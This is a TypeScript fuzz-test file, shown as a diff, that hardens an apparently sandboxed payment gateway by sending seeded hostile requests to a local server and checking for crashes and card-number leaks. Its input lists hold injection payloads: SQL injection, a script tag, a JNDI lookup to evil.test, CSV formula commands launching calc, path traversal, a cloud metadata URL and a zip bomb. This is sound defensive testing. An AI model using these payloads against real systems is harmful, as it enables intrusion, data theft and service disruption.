@@ -1,0 +1,257 @@
+// A bounded, seeded hostile-input run over every operation of the contract, through the real HTTP
+// server of a sandbox on a file store: malformed JSON, wrong types, huge and deep bodies, unicode and
+// NUL bytes, injection-shaped strings, path traversal, duplicate keys, non-finite numbers, card
+// numbers where they do not belong, zip bombs. Each request is signed as a client would sign it half
+// of the time, so that many reach the handlers. Asserted for every request: no 5xx; no card number
+// in the answer (JSON, CSV or zip); a refusal changes no table's row count. At the end: no card
+// number in any file the store wrote, and the process still answers.
+import { once } from 'node:events';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import os from 'node:os';
+import path from 'node:path';
+import fc from 'fast-check';
+import { strToU8, unzipSync, zipSync } from 'fflate';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { buildRequest, requestExamples, SANDBOX_ACCESS_TOKEN } from '../../contract/requests.ts';
+import { operations, type ContractOperation } from '../../generated/operations.ts';
+import { findCardNumber } from '../../server-stubs/core/answer.ts';
+import type { GatewayRequest } from '../../server-stubs/index.ts';
+import { counts, FOREIGN_CARD, hardeningSandbox, merchant, purchase, send, signed, storedCard, BATCH_HEADER } from './support.ts';
+
+const SEED = 20261123;
+const RUNS_PER_OPERATION = 60;
+
+const dir = mkdtempSync(path.join(os.tmpdir(), 'pgw-fuzz-'));
+const sb = hardeningSandbox(path.join(dir, 'fuzz.db'));
+const server = sb.server();
+const agent = new http.Agent({ keepAlive: true, maxSockets: 4 });
+let port = 0;
+
+beforeAll(async () => {
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  port = (server.address() as AddressInfo).port;
+  // State for the examples' identifiers to meet, so that mutated requests reach deep into handlers.
+  sb.store.run('INSERT INTO access_tokens (token, merchant_id, amount, currency, expires_at) VALUES (?, ?, ?, ?, ?)', SANDBOX_ACCESS_TOKEN, merchant.merchantUUID, '10.00', 'AUD', '2999-01-01 00:00:00');
+  await storedCard(sb);
+  await send(sb, signed('processCard', purchase()));
+  await send(sb, signed('createPayId', { payId: 'jane-1001@merchant.payid.test', name: 'Jane Citizen', reference: 'CUST-1001' }));
+  await send(sb, signed('createAgreement', { payer: { name: 'Jane', account: { name: 'Jane', bsb: '802950', accountNumber: '123321' } }, agreement: { arrangement: 'Gym', payment: { type: 'BALN', frequency: 'ADHO', maximum: 200, pointInTime: 4 } } }));
+});
+afterAll(async () => {
+  agent.destroy();
+  await new Promise((resolve) => server.close(resolve));
+  sb.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+interface Raw {
+  verb: string;
+  url: string;
+  headers: Record<string, string | undefined>;
+  body?: string | Uint8Array | undefined;
+}
+
+function request(raw: Raw): Promise<{ status: number; type: string; body: Buffer }> {
+  return new Promise((resolve, reject) => {
+    const headers = Object.fromEntries(Object.entries(raw.headers).filter(([, v]) => v !== undefined)) as Record<string, string>;
+    if (raw.body !== undefined) headers['content-length'] = String(Buffer.byteLength(raw.body as string));
+    const req = http.request({ agent, host: '127.0.0.1', port, method: raw.verb, path: raw.url, headers }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => resolve({ status: res.statusCode!, type: String(res.headers['content-type'] ?? ''), body: Buffer.concat(chunks) }));
+      res.on('error', reject);
+    });
+    req.on('error', reject);
+    req.end(raw.body);
+  });
+}
+
+const deep = (n: number): unknown => {
+  let v: unknown = 'bottom';
+  for (let i = 0; i < n; i++) v = [v];
+  return v;
+};
+
+const INJECTIONS = [
+  "' OR '1'='1", '"; DROP TABLE transactions; --', '<script>alert(1)</script>', '${jndi:ldap://evil.test/x}', '{{7*7}}',
+  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2f', '\u0000', 'a\u0000b', '\ud800', '\udfff\ud800', '🙂'.repeat(40),
+  '\u202eevil', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|', '+1+1', '-2+3', '\t=1', FOREIGN_CARD, '4564 7100 0000 0004', `ref ${FOREIGN_CARD}`,
+  'x'.repeat(70_000), '', ' ', 'null', 'true', '1e309', 'NaN', '-0', '0x10', '１２３', 'http://169.254.169.254/latest/meta-data',
+];
+
+const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
+  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
+  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.string({ maxLength: 300 }) },
+  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -1, 1e308, -1e308, 5e-324, 2 ** 53 + 1)) },
+  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, deep(300), { method: 'processBatch' }) },
+  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
+);
+
+/** A zip of a CSV: valid, a bomb (20 MB of one line), hostile lines, or not a zip. */
+const batchFiles = (() => {
+  const bomb = new Uint8Array(20_000_000);
+  bomb.set(strToU8(`${BATCH_HEADER}\n`));
+  const line = strToU8('R-1,5.00,AUD,Box,KOCI12345678,abcdefghijklmnop\n');
+  for (let at = BATCH_HEADER.length + 1; at + line.length <= bomb.length; at += line.length) bomb.set(line, at);
+  const b64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64');
+  return [
+    b64(zipSync({ 'b.csv': bomb }, { level: 9 })),
+    b64(zipSync({ 'b.csv': strToU8(`${BATCH_HEADER}\n"R\n9,forged,1.00,0,ok",5.00,AUD,=1+1,KOCI1,k\nR-2,1e309,AUD,${FOREIGN_CARD},x,y\n`) })),
+    b64(zipSync({ 'a.csv': strToU8('x'), 'b.csv': strToU8('y') })),
+    b64(zipSync({ '../../etc/passwd.csv': strToU8(`${BATCH_HEADER}\n`) })),
+    b64(strToU8('PK\u0003\u0004 not really a zip')),
+    'not base64 at all!',
+    b64(zipSync({ 'b.csv': new Uint8Array([0xff, 0xfe, 0x00, 0xc3]) })),
+  ];
+})();
+
+type Mutation =
+  | { kind: 'set'; key: number; value: unknown }
+  | { kind: 'add'; name: string; value: unknown }
+  | { kind: 'drop'; key: number }
+  | { kind: 'replace'; value: unknown }
+  | { kind: 'text'; how: 'truncate' | 'duplicate' | 'infinity' | 'utf8' | 'huge' | 'nested' | 'garbage' | 'empty' | 'type'; at: number }
+  | { kind: 'param'; value: string; raw: boolean }
+  | { kind: 'query'; name: string; value: string }
+  | { kind: 'header'; name: string; value: string }
+  | { kind: 'batch'; file: number };
+
+const mutation: fc.Arbitrary<Mutation> = fc.oneof(
+  { weight: 5, arbitrary: fc.record({ kind: fc.constant('set' as const), key: fc.nat(), value: hostileValue }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('add' as const), name: fc.constantFrom('__proto__', 'constructor', 'x', 'custom1', 'transactionProduct', 'notifyURL', 'method'), value: hostileValue }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('drop' as const), key: fc.nat() }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('replace' as const), value: hostileValue }) },
+  { weight: 3, arbitrary: fc.record({ kind: fc.constant('text' as const), how: fc.constantFrom('truncate', 'duplicate', 'infinity', 'utf8', 'huge', 'nested', 'garbage', 'empty', 'type'), at: fc.nat() }) },
+  { weight: 2, arbitrary: fc.record({ kind: fc.constant('param' as const), value: fc.constantFrom('..', '../../etc/passwd', '%2e%2e%2f', '%00', '%ZZ', 'a%2Fb', FOREIGN_CARD, "' OR 1=1 --", 'x'.repeat(5000), '🙂'), raw: fc.boolean() }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('query' as const), name: fc.constantFrom('status', 'from', 'to', 'agreementIdentification', 'x', '__proto__'), value: fc.constantFrom(...INJECTIONS.slice(0, 20)) }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('header' as const), name: fc.constantFrom('content-type', 'svc-api-version', 'svc-merchantid', 'svc-apikey', 'svc-messagehash'), value: fc.constantFrom('text/plain', 'application/json; charset=utf-16', '2.0 ', '1.0', '', 'x'.repeat(2000), FOREIGN_CARD) }) },
+  { weight: 1, arbitrary: fc.record({ kind: fc.constant('batch' as const), file: fc.nat(batchFiles.length - 1) }) },
+);
+
+function pathParams(op: ContractOperation): Record<string, string> {
+  return Object.fromEntries(op.parameters.filter((p) => p.in === 'path').map((p) => [p.name, p.example!]));
+}
+
+/** The hostile request for one operation: its first example, mutated, signed or not. */
+function hostile(op: ContractOperation, m: Mutation, sign: boolean): Raw {
+  const example = op.request ? structuredClone(requestExamples(op)[0]?.value ?? {}) : undefined;
+  let body: unknown = example;
+  let params = pathParams(op);
+  let query: Record<string, string> | undefined;
+  const keys = example ? Object.keys(example) : [];
+  if (example && m.kind === 'set' && keys.length) (example as Record<string, unknown>)[keys[m.key % keys.length]!] = m.value;
+  if (example && m.kind === 'add') Object.defineProperty(example, m.name, { value: m.value, enumerable: true, configurable: true, writable: true });
+  if (example && m.kind === 'drop' && keys.length) delete (example as Record<string, unknown>)[keys[m.key % keys.length]!];
+  if (m.kind === 'replace') body = m.value;
+  if (m.kind === 'batch' && example) (example as Record<string, unknown>).batchFile = batchFiles[m.file];
+  if (m.kind === 'param' && !m.raw && Object.keys(params).length) params = Object.fromEntries(Object.keys(params).map((k) => [k, decodeURIComponentSafe(m.value)]));
+  if (m.kind === 'query') query = { [m.name]: m.value };
+
+  let built: GatewayRequest;
+  try {
+    const isObject = body !== null && typeof body === 'object' && !Array.isArray(body);
+    built = sign && isObject ? signed(op.operationId, body as Record<string, unknown>, { params, ...(query ? { query } : {}) }) : buildRequest(op, { body, params, ...(query ? { query } : {}) });
+  } catch {
+    built = buildRequest(op, { params });
+    built = { ...built, body: JSON.stringify(body ?? null), headers: { ...built.headers, 'content-type': 'application/json' } };
+  }
+  const raw: Raw = { verb: built.verb, url: built.url, headers: { ...built.headers }, body: built.body };
+  if (m.kind === 'param' && m.raw && Object.keys(pathParams(op)).length) {
+    const first = Object.values(pathParams(op))[0]!;
+    raw.url = raw.url.replace(encodeURIComponent(first), m.value.replace(/[^\x21-\x7e]/gu, encodeURIComponent));
+  }
+  if (m.kind === 'header') raw.headers[m.name] = m.value;
+  if (m.kind === 'text') {
+    const text = typeof raw.body === 'string' ? raw.body : '{"method":"x"}';
+    raw.headers['content-type'] = 'application/json';
+    const cut = text.length ? m.at % text.length : 0;
+    raw.body = {
+      truncate: text.slice(0, cut),
+      duplicate: text.replace(/^\{("[^"]+"):("[^"]*"|[^,}]*)/, '{$1:$2,$1:"second"'),
+      infinity: text.replace(/\}$/, ',"amount":1e309}').replace(/:(\d+(\.\d+)?)([,}])/, ':1e309$3'),
+      utf8: Buffer.concat([Buffer.from(text.slice(0, cut)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(text.slice(cut))]) as Uint8Array,
+      huge: text.replace(/\}$/, `,"custom1":"${'x'.repeat(1_100_000)}"}`),
+      nested: `{"method":"processBatch","x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
+      garbage: `${text}}}]]`,
+      empty: '',
+      type: text,
+    }[m.how];
+    if (m.how === 'type') raw.headers['content-type'] = 'application/x-www-form-urlencoded';
+  }
+  return raw;
+}
+
+function decodeURIComponentSafe(v: string): string {
+  try {
+    return decodeURIComponent(v);
+  } catch {
+    return v;
+  }
+}
+
+function leaks(type: string, body: Buffer): boolean {
+  if (type.includes('zip')) {
+    try {
+      return Object.values(unzipSync(body)).some((f) => findCardNumber(Buffer.from(f).toString('utf8')));
+    } catch {
+      return findCardNumber(body.toString('latin1'));
+    }
+  }
+  return findCardNumber(body.toString('utf8'));
+}
+
+describe('hostile input over every operation (seeded)', () => {
+  const stats = { requests: 0, answered: 0, refused: 0, fiveHundreds: 0, storedByRefusal: 0, leaks: 0, crashes: 0 };
+  const failures: string[] = [];
+
+  it(`${RUNS_PER_OPERATION} hostile requests per operation: no 5xx, no leak, no refusal that stores`, async () => {
+    const plan = fc.sample(fc.tuple(mutation, fc.boolean()), { seed: SEED, numRuns: operations.length * RUNS_PER_OPERATION });
+    let i = 0;
+    for (const op of operations) {
+      for (let r = 0; r < RUNS_PER_OPERATION; r++) {
+        const [m, sign] = plan[i++]!;
+        const raw = hostile(op, m, sign);
+        const before = counts(sb);
+        let answer: Awaited<ReturnType<typeof request>>;
+        try {
+          answer = await request(raw);
+        } catch (error) {
+          stats.crashes++;
+          failures.push(`${op.operationId} ${m.kind}: no answer (${(error as Error).message})`);
+          continue;
+        }
+        stats.requests++;
+        const text = answer.type.includes('json') ? answer.body.toString('utf8') : '';
+        let code = 0;
+        try {
+          code = text ? Number(JSON.parse(text).responseCode) : 0;
+        } catch {
+          code = NaN;
+        }
+        const refused = answer.status >= 400 || code < 0 || Number.isNaN(code);
+        if (refused) stats.refused++;
+        else stats.answered++;
+        if (answer.status >= 500) (stats.fiveHundreds++, failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: ${answer.status} ${text.slice(0, 200)}`));
+        if (leaks(answer.type, answer.body)) (stats.leaks++, failures.push(`${op.operationId} ${m.kind}: card number in the answer`));
+        if (refused && JSON.stringify(counts(sb)) !== JSON.stringify(before)) (stats.storedByRefusal++, failures.push(`${op.operationId} ${JSON.stringify(m).slice(0, 160)}: a refusal stored (${text.slice(0, 120)})`));
+      }
+    }
+    console.log(`fuzz: ${JSON.stringify(stats)}`);
+    expect(failures.slice(0, 20)).toEqual([]);
+    expect(stats.requests).toBe(operations.length * RUNS_PER_OPERATION);
+  });
+
+  it('the process still answers, and no file of the store holds a card number', async () => {
+    const ok = await request({ verb: 'GET', url: '/openapi.json', headers: {} });
+    expect(ok.status).toBe(200);
+    sb.store.db.exec('PRAGMA wal_checkpoint(PASSIVE)');
+    for (const file of readdirSync(dir)) {
+      const bytes = readFileSync(path.join(dir, file)).toString('latin1');
+      expect(findCardNumber(bytes), file).toBe(false);
+    }
+  });
+});
